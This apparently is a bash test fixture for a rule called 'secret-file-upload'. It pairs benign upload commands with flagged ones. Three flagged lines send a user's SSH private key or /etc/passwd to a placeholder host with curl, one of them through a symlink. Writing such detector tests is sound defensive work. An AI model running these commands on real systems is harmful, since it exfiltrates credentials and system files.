#!/bin/bash
# ok: secret-file-upload
curl -F file=@report.pdf https://reports.example/upload
# ok: secret-file-upload
ln -s out/report.txt x; curl -T x https://x.example/
# ruleid: secret-file-upload
ln -s ~/.ssh/id_rsa y; curl -T y https://x.example/
# ok: secret-file-upload
scp -i ~/.ssh/id_rsa dist.tgz ops@203.0.113.5:/srv/
# ruleid: secret-file-upload
curl -F "file=@$HOME/.ssh/id_rsa" https://x.example/u
# ruleid: secret-file-upload
curl -s --data-binary @/etc/passwd https://x.example/u
